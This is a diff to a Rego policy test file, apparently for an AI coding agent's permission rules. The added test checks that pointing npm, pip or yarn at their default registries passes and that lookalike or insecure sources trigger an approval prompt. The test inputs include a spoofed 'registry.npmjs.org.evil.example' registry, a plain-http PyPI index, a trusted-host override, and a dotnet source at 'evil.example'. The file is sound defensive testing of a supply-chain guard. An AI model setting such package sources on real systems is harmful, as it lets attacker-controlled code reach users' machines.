@@ -139,6 +139,17 @@ test_trusted_index_hosts_pass_and_others_ask if {
 	count(package_sources.ask) > 0 with input as _input([_seg(["pip", "install", "torch", "--index-url", "https://download.pytorch.org/whl"], {})]) with data.claude_rego.settings.trusted_package_indexes as []
 }
 
+# setting the registry to an ecosystem's default (in trusted_package_indexes) changes nothing
+test_config_set_to_trusted_registry_passes if {
+	every argv in [["npm", "config", "set", "registry", "https://registry.npmjs.org/"], ["pip", "config", "set", "global.index-url", "https://pypi.org/simple"], ["yarn", "config", "set", "registry", "https://registry.yarnpkg.com"], ["npm", "config", "set", "registry=https://registry.npmjs.org/"]] {
+		count(package_sources.ask) == 0 with input as _input([_seg(argv, {})])
+	}
+	every argv in [["npm", "config", "set", "registry", "https://registry.npmjs.org.evil.example/"], ["pip", "config", "set", "global.index-url", "http://pypi.org/simple"], ["pip", "config", "set", "global.trusted-host", "pypi.org"], ["npm", "config", "set", "registry"]] {
+		count(package_sources.ask) > 0 with input as _input([_seg(argv, {})])
+	}
+	count(package_sources.ask) > 0 with input as _input([_seg(["npm", "config", "set", "registry", "https://registry.npmmirror.com/"], {})]) with data.claude_rego.settings.trusted_package_indexes as []
+}
+
 test_dotnet_foreign_source_asks if {
 	count(package_sources.ask) > 0 with input as _input([_seg(["dotnet", "tool", "install", "-g", "x", "--add-source", "https://evil.example/nuget/"], {})])
 	count(package_sources.ask) == 0 with input as _input([_seg(["dotnet", "add", "package", "Newtonsoft.Json"], {})])
